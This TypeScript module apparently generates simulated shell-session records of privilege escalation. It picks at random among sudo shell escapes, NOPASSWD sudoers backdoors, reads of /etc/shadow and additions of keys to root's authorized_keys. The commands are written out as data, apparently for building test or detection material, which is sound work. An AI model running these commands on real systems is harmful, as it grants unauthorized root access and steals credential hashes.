import { plainRoot } from './commands.ts'
import type { Random } from './random.ts'
import type { Command } from './session.ts'

/** The commands of one way to become root. */
export type Deed = (random: Random, user: string) => Command[]

const asRoot = (lines: string[]): Command[] => lines.map((line) => ({ line, runAs: 'root' }))
export const shellOf =
  (line: string, method: string): Deed =>
  (random) => [
    { line, elevates: { method, toUser: 'root' } },
    ...plainRoot(random).map((command) => ({ ...command, runAs: 'root' })),
  ]
export const line =
  (...options: ((user: string) => string)[]): Deed =>
  (random, user) => [{ line: random.pick(options)(user) }]

/** A pipe into sudo: seen as typed, and, where sub-commands are logged, as executed too. */
const piped =
  (typed: string, executed: string): Deed =>
  (random) => [{ line: typed, typed: true }, ...(random.chance(0.6) ? [{ line: executed, typed: false }] : [])]
const oneOf =
  (...deeds: Deed[]): Deed =>
  (random, user) =>
    random.pick(deeds)(random, user)

const lessEscape: Deed = () => [
  { line: 'sudo less /etc/hosts' },
  { line: '/bin/sh', runAs: 'root' },
  ...asRoot(['id', 'ls /root']),
]
const plainGtfobins = line(
  () => 'sudo find /etc -name passwd -exec /bin/sh ;',
  () => "sudo vim -c ':!/bin/sh'",
  () => `sudo awk 'BEGIN {system("/bin/sh")}'`,
  () => 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh',
  () => 'sudo env /bin/sh',
  () => 'sudo python3 -c \'import os; os.setuid(0); os.system("/bin/bash")\'',
)
export const gtfobins: Deed = (random, user) => (random.chance(0.2) ? lessEscape : plainGtfobins)(random, user)
const dropIn: Deed = (random, user) =>
  piped(`echo '${user} ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/${user}`, `sudo tee /etc/sudoers.d/${user}`)(
    random,
    user,
  )
const copiedSudoers = line(
  (user) => `sudo cp /tmp/${user}.conf /etc/sudoers.d/99-${user}`,
  (user) => `sudo sh -c "echo '${user} ALL=(ALL:ALL) NOPASSWD:ALL' >> /etc/sudoers"`,
)
export const sudoers = oneOf(dropIn, copiedSudoers)
export const shadow = line(
  () => 'sudo cat /etc/shadow',
  () => 'sudo cp /etc/shadow /tmp/.s',
  () => 'sudo head -n 40 /etc/shadow',
  () => 'sudo unshadow /etc/passwd /etc/shadow',
)
export const rootKeys = oneOf(
  piped(
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB x@y' | sudo tee -a /root/.ssh/authorized_keys",
    'sudo tee -a /root/.ssh/authorized_keys',
  ),
  line(() => 'sudo cp id.pub /root/.ssh/authorized_keys'),
)
